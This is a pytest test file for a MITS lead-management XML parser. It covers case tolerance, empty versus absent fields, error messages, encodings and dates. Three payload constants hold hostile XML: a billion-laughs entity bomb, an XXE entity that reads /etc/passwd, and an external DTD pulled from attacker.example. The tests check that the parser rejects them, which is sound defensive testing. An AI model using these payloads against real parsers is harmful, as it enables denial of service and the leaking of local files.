"""The MITS XML reader and writer: tolerant of case, strict about hostile documents."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime

import pytest

from leadsync_tui.sim.resman import mits_answers, mits_xml
from leadsync_tui.sim.resman.mits_xml import MitsXmlError, parse_lead_management

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<LeadManagement><Prospects><Prospect><Customers><Customer>
<Name><FirstName>&lol3;</FirstName><LastName>x</LastName></Name>
</Customer></Customers></Prospect></Prospects></LeadManagement>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<LeadManagement><Prospects><Prospect><Customers><Customer>
<Name><FirstName>&xxe;</FirstName></Name></Customer></Customers></Prospect></Prospects>
</LeadManagement>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE LeadManagement SYSTEM "http://attacker.example/evil.dtd">
<LeadManagement><Prospects><Prospect/></Prospects></LeadManagement>"""

DTD_REFUSED = "Xml must not contain a DTD, entity declarations or external references"


def test_names_attributes_and_event_types_are_read_case_insensitively() -> None:
    document = """<leadmanagement xmlns="http://my-company.com/namespace"><PROSPECTS><prospect>
      <customers><CUSTOMER type="prospect">
        <identification idtype="prospectid" idvalue="{ABCDEF00-0000-4000-8000-000000000001}"/>
        <IDENTIFICATION IDTYPE="PERSONID" IDVALUE="p-1"/>
        <name><firstname> Ada </firstname><LASTNAME>Lovelace</LASTNAME></name>
        <phone phonetype="CELL"><phonenumber>512-555-0101</phonenumber></phone>
        <Phone PhoneType="office"><PhoneNumber>512-555-0102</PhoneNumber></Phone>
        <Phone PhoneType="fax"><PhoneNumber>512-555-0103</PhoneNumber></Phone>
        <EMAIL>ada@example.com</EMAIL>
      </CUSTOMER></customers>
      <customerpreferences><desiredrent exact="1499.6"/><desirednumbedrooms MIN="1" max="2"/>
        <DesiredNumBathrooms Exact="1.5"/><pets pettype="Dog" count="2"/>
        <targetmoveindate>2026-05-01</targetmoveindate><comment>quiet unit</comment>
      </customerpreferences>
      <events><event eventtype="walkin" eventdate="2026-03-01T10:00:00-05:00">
        <agent><agentid idvalue="agent-1"/></agent><firstcontact>True</firstcontact>
        <transactionsource>src-1</transactionsource><eventreasons>tour</eventreasons>
      </event><Event EventType="EMAILFROMPROSPECT"/></events>
    </prospect></PROSPECTS></leadmanagement>"""
    (posted,) = parse_lead_management(document)
    (customer,) = posted.customers
    assert customer.prospect_id == "{ABCDEF00-0000-4000-8000-000000000001}"
    assert customer.person_id == "p-1"
    assert (customer.first_name, customer.last_name) == ("Ada", "Lovelace")
    assert [(p.phone_type, p.number) for p in customer.phones] == [
        ("Mobile", "512-555-0101"),
        ("Work", "512-555-0102"),
        (None, "512-555-0103"),  # fax has no ResMan slot: it takes a free one
    ]
    assert customer.email == "ada@example.com"
    prefs = posted.preferences
    assert prefs is not None
    assert prefs.max_rent == 1500
    assert (prefs.bedrooms_min, prefs.bedrooms_max) == (1, 2)
    assert (prefs.bathrooms_min, prefs.bathrooms_max) == (1.5, 1.5)
    assert [(p.pet_type, p.count) for p in prefs.pets] == [("Dog", 2)]
    assert prefs.target_move_in_date == date(2026, 5, 1)
    assert prefs.comments == "quiet unit"
    first, second = posted.events
    assert first.event_type == "WalkIn"
    assert first.event_date == datetime(2026, 3, 1, 15, 0, tzinfo=UTC)
    assert (first.agent_id, first.transaction_source, first.first_contact) == (
        "agent-1",
        "src-1",
        True,
    )
    assert second.event_type == "EmailFromProspect"
    assert second.event_date is None


def test_absent_and_empty_elements_are_told_apart() -> None:
    (posted,) = parse_lead_management(
        "<LeadManagement><Prospects><Prospect><Customers><Customer><Email/></Customer></Customers>"
        "<CustomerPreferences><TargetMoveInDate/><DesiredNumBedrooms/></CustomerPreferences>"
        "</Prospect></Prospects></LeadManagement>"
    )
    customer = posted.customers[0]
    assert customer.first_name is None  # absent: keep on update
    assert customer.email == ""  # present but empty: clear
    assert posted.preferences is not None
    assert posted.preferences.present == {"target_move_in_date", "bedrooms_min", "bedrooms_max"}


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, EXTERNAL_DTD])
def test_dtds_entities_and_external_references_are_refused(payload: str) -> None:
    with pytest.raises(MitsXmlError) as caught:
        parse_lead_management(payload)
    assert str(caught.value) == DTD_REFUSED


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        ("<LeadManagement><Prospects>", "Xml is not well-formed"),
        ("not xml at all", "Xml is not well-formed"),
        ("   ", "Xml is required"),
        (
            "<Leads><Prospects><Prospect/></Prospects></Leads>",
            "root element must be LeadManagement",
        ),
        ("<LeadManagement><Prospects/></LeadManagement>", "Xml contains no Prospect"),
        (
            '<LeadManagement><Prospects><Prospect><Events><Event EventType="Party"/>'
            "</Events></Prospect></Prospects></LeadManagement>",
            "EventType 'Party' is not valid",
        ),
        (
            '<LeadManagement><Prospects><Prospect><Events><Event EventType="Other" '
            'EventDate="yesterday"/></Events></Prospect></Prospects></LeadManagement>',
            "Invalid EventDate: 'yesterday'",
        ),
        (
            "<LeadManagement><Prospects><Prospect><Events><Event EventType='Other'>"
            "<FirstContact>maybe</FirstContact></Event></Events></Prospect></Prospects>"
            "</LeadManagement>",
            "Invalid FirstContact: 'maybe'",
        ),
        (
            "<LeadManagement><Prospects><Prospect><CustomerPreferences>"
            "<DesiredRent Exact='lots'/></CustomerPreferences></Prospect></Prospects>"
            "</LeadManagement>",
            "Invalid DesiredRent: 'lots'",
        ),
    ],
)
def test_bad_documents_get_a_clear_description(payload: str, message: str) -> None:
    with pytest.raises(MitsXmlError, match=message):
        parse_lead_management(payload)


def test_oversized_documents_are_refused_before_parsing() -> None:
    big = "<LeadManagement>" + "<!-- padding -->" * 200 + "</LeadManagement>"
    with pytest.raises(MitsXmlError, match="Xml exceeds the maximum size of 1000 bytes"):
        parse_lead_management(big, max_bytes=1000)


def test_encodings_csharp_clients_send_are_understood() -> None:
    body = "<LeadManagement><Prospects><Prospect><Customers><Customer><Name><FirstName>Zoë"
    body += "</FirstName></Name></Customer></Customers></Prospect></Prospects></LeadManagement>"
    # A C# StringWriter declares utf-16 even though the form field is plain text.
    as_text = parse_lead_management('<?xml version="1.0" encoding="utf-16"?>' + body)
    latin1 = ('<?xml version="1.0" encoding="iso-8859-1"?>' + body).encode("latin-1")
    with_bom = b"\xef\xbb\xbf" + body.encode("utf-8")
    for parsed in (as_text, parse_lead_management(latin1), parse_lead_management(with_bom)):
        assert parsed[0].customers[0].first_name == "Zoë"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("2020-03-16T21:58:01.795643", datetime(2020, 3, 16, 21, 58, 1, 795643, tzinfo=UTC)),
        ("2024-01-02T15:04:05Z", datetime(2024, 1, 2, 15, 4, 5, tzinfo=UTC)),
        ("2024-01-02T15:04:05+02:00", datetime(2024, 1, 2, 13, 4, 5, tzinfo=UTC)),
        ("1/2/2024 3:04:05 PM", datetime(2024, 1, 2, 15, 4, 5, tzinfo=UTC)),
        ("2024-01-02", datetime(2024, 1, 2, tzinfo=UTC)),
    ],
)
def test_date_formats_integrators_send_are_read_as_utc(raw: str, expected: datetime) -> None:
    assert mits_xml.parse_datetime(raw) == expected


def test_envelope_and_truncation() -> None:
    root = mits_answers.envelope("SearchProspects", error="Nope", account_id=400, property_id="p")
    assert [c.tag for c in root] == [
        "MethodName",
        "Status",
        "AccountID",
        "PropertyID",
        "ErrorDescription",
    ]
    assert root.findtext("Status") == "Error"
    body = mits_answers.to_bytes(root)
    assert body.startswith(b'<?xml version="1.0" encoding="utf-8"?><ResMan>')
    with pytest.raises(ET.ParseError):
        ET.fromstring(mits_answers.truncated(body))
